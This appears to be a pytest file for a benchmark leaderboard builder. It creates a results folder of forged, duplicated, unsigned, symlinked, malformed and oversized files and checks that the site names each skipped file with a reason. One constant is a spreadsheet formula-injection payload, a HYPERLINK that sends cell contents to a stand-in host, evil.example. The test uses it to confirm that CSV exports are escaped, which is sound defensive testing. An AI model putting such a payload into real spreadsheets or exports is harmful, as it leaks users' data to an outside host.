"""Issue 14's "done when": a results folder holding one file of every bad kind next to valid files. The site shows
the valid entries with the right numbers and names every bad file with its reason, on the index page and in the
terminal."""

from __future__ import annotations

import csv
import shutil
import subprocess
import uuid
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from benchmark.results import read_results, scores_path, to_table, write_results
from benchmark.signing import NAMESPACE, sign_record
from tests.records import verification_record, write_verification

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _write_record(root: Path, record: dict) -> str:
    return str(write_verification(root, record).relative_to(root))


@pytest.fixture
def hostile(tmp_path, demo_run, make_run) -> dict:
    root = tmp_path / "results"
    (root / "zero_shot").mkdir(parents=True)
    zs = root / "zero_shot" / "demo.parquet"
    shutil.copy(demo_run["file"], zs)
    shutil.copy(scores_path(demo_run["file"]), scores_path(zs))
    valid = {
        "zero_shot/demo.parquet": zs,
        "coop/k4-s1.parquet": make_run(root / "coop" / "k4-s1.parquet", method="coop", shots=4, seed=1, shift=0.01),
        "coop/k4-s2.parquet": make_run(root / "coop" / "k4-s2.parquet", method="coop", shots=4, seed=2, shift=0.03),
        "formula/k1-s1.parquet": make_run(root / "formula" / "k1-s1.parquet", method=FORMULA, shots=1, seed=1),
    }
    base = read_results(valid["coop/k4-s1.parquet"])
    bad: dict[str, str] = {}  # path -> a piece of the reason it must be named with

    # a copied run: a genuine file and a forged copy with its run_id that sorts first
    genuine = make_run(root / "coop" / "k8-s1.parquet", method="coop", shots=8, seed=1)
    write_results(read_results(genuine).assign(auroc=0.987654), root / "coop" / "0-k8-s1.parquet")
    bad["coop/k8-s1.parquet"] = "copy of the same run"
    bad["coop/0-k8-s1.parquet"] = "copy of the same run"
    # a duplicate run key under a new run_id (would read as an extra seed)
    dup = make_run(root / "coop" / "k16-s1.parquet", method="coop", shots=16, seed=1)
    write_results(read_results(dup).assign(run_id=uuid.uuid4().hex), root / "coop" / "k16-s1-again.parquet")
    bad["coop/k16-s1.parquet"] = "copy of the same run"
    bad["coop/k16-s1-again.parquet"] = "copy of the same run"
    # a self-written "verified" record, and a malformed one
    bad[_write_record(root, verification_record(zs))] = "unsigned"
    bad[_write_record(root, verification_record(valid["coop/k4-s1.parquet"], reproduced={}))] = "reproduced.device"
    # a record signed, but by a key nobody listed (the listed reviewer's key is in allowed_signers)
    keys = tmp_path / "keys"
    keys.mkdir()
    for name in ("reviewer", "stranger"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(keys / name)], check=True)
    pub = (keys / "reviewer.pub").read_text().strip()
    (root / "allowed_signers").write_text(f'reviewer@example.org namespaces="{NAMESPACE}" {pub}\n')
    signed = _write_record(root, verification_record(valid["coop/k4-s2.parquet"]))
    sign_record(root / signed, key=keys / "stranger")
    bad[signed] = "signer not allowed"
    # a symlink to a file outside the results folder, and one to a folder outside it
    outside = make_run(tmp_path / "elsewhere" / "forged.parquet", method="coop", shots=2, seed=1)
    (root / "coop" / "k2-s1.parquet").symlink_to(outside)
    bad["coop/k2-s1.parquet"] = "outside the results folder"
    make_run(tmp_path / "elsewhere2" / "k2-s2.parquet", method="coop", shots=2, seed=2)
    (root / "linked").symlink_to(tmp_path / "elsewhere2", target_is_directory=True)
    # an extra column, an int in one file and text in another
    write_results(base.assign(note=1, run_id=uuid.uuid4().hex, seed=11), root / "extra" / "int.parquet")
    write_results(base.assign(note="x", run_id=uuid.uuid4().hex, seed=12), root / "extra" / "text.parquet")
    bad["extra/int.parquet"] = "not in result schema"
    bad["extra/text.parquet"] = "not in result schema"
    # invalid UTF-8
    table = to_table(base.assign(run_id=uuid.uuid4().hex, seed=13))
    raw = pa.array([b"coop\xff"] * table.num_rows, type=pa.binary())
    table = table.set_column(
        table.schema.get_field_index("method"), "method", pa.Array.from_buffers(pa.string(), len(raw), raw.buffers())
    )
    pq.write_table(table, root / "coop" / "utf8.parquet")
    bad["coop/utf8.parquet"] = "not valid UTF-8"
    # huge strings
    write_results(base.assign(device="x" * 2_000_000, run_id=uuid.uuid4().hex, seed=14), root / "coop" / "huge.parquet")
    bad["coop/huge.parquet"] = "longer than 256 characters"
    # many unknown score names
    many = base.loc[np.repeat(base.index, 200)].reset_index(drop=True).assign(run_id=uuid.uuid4().hex, seed=15)
    many["score"] = [f"made_up_{i}" for i in range(len(many))]
    write_results(many, root / "coop" / "scores.parquet")
    bad["coop/scores.parquet"] = "unknown score name"
    # a config edited behind its hash
    edited = base.assign(method_config='{"lr":0.5}', run_id=uuid.uuid4().hex, seed=16)
    write_results(edited, root / "coop" / "edited.parquet")
    bad["coop/edited.parquet"] = "does not match method and method_config"
    shutil.copytree(Path(__file__).parents[1] / "results" / "reported", root / "reported")
    return {"root": root, "valid": valid, "bad": bad}


def test_the_valid_entries_are_shown_and_every_bad_file_is_named(hostile, tmp_path, run_cli):
    site = tmp_path / "site"
    code, out, err = run_cli("leaderboard", "build", "--results", hostile["root"], "--out", site, "--no-cache")
    assert code == 0, err
    index = (site / "index.html").read_text()
    terminal = " ".join(err.split())  # the terminal wraps long lines
    for path, reason in hostile["bad"].items():
        assert f"skipped {path}:" in terminal, path
        line = terminal.split(f"skipped {path}:")[1].split("skipped ")[0]
        assert reason in line, (path, reason, line[:300])
        assert path in index and reason in index, path
    assert f"{len(hostile['bad'])} file(s) skipped" in out

    # the downloads hold exactly the valid files' rows, with their numbers
    merged = pd.read_parquet(site / "downloads" / "oodbench-results.parquet")
    assert set(merged["source_file"]) == set(hostile["valid"])
    for rel, path in hostile["valid"].items():
        mine = merged[merged["source_file"] == rel].sort_values(["score", "ood_dataset"]).reset_index(drop=True)
        theirs = read_results(path).sort_values(["score", "ood_dataset"]).reset_index(drop=True)
        assert np.array_equal(mine["auroc"].to_numpy(), theirs["auroc"].to_numpy()), rel
    with (site / "downloads" / "oodbench-results.csv").open(newline="", encoding="utf-8") as f:
        methods = {r["method"] for r in csv.DictReader(f)}
    assert "'" + FORMULA in methods and FORMULA not in methods  # shown, but never a formula in a spreadsheet

    # the coop 4-shot entry: mean over its two seeds of the mean far AUROC (MCM), as the suite page shows it
    runs = [read_results(hostile["valid"][f"coop/k4-s{s}.parquet"]) for s in (1, 2)]
    far = [r[(r["score"] == "mcm") & (r["ood_group"] == "far")]["auroc"].mean() for r in runs]
    page = next(site.glob("suite-fmnist-ood-*.html")).read_text()
    assert f"{100 * np.mean(far):.1f} ± {100 * np.std(far):.1f}" in page
    assert "0.987654" not in (site / "downloads" / "oodbench-results.csv").read_text()  # the forged copy is nowhere
    assert "x" * 1000 not in index and sum(p.stat().st_size for p in site.rglob("*") if p.is_file()) < 5_000_000
    assert not list(tmp_path.glob(".site.*"))  # no temporary folder left
